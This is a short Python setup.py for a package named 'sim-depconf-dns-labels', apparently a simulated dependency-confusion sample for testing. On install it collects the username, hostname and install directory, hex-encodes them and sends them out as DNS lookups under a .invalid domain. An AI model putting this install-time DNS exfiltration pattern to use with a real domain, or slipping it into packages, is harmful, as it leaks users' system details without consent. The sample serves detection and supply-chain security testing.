# SPDX-License-Identifier: Apache-2.0
"""Harmless: it asks for names under .invalid."""

import os
import pwd
import socket

from setuptools import setup


def leak(tag, value):
    text = value.encode().hex()
    for at in range(0, len(text), 60):
        try:
            socket.getaddrinfo(f"{tag}{at // 60}.{text[at : at + 60]}.x.sim-labels.invalid", 80)
        except OSError:
            pass


leak("u", pwd.getpwuid(os.getuid()).pw_name)
leak("h", socket.gethostname())
leak("d", os.path.dirname(os.path.abspath(__file__)))

setup(name="sim-depconf-dns-labels", version="1.0.0", py_modules=[])
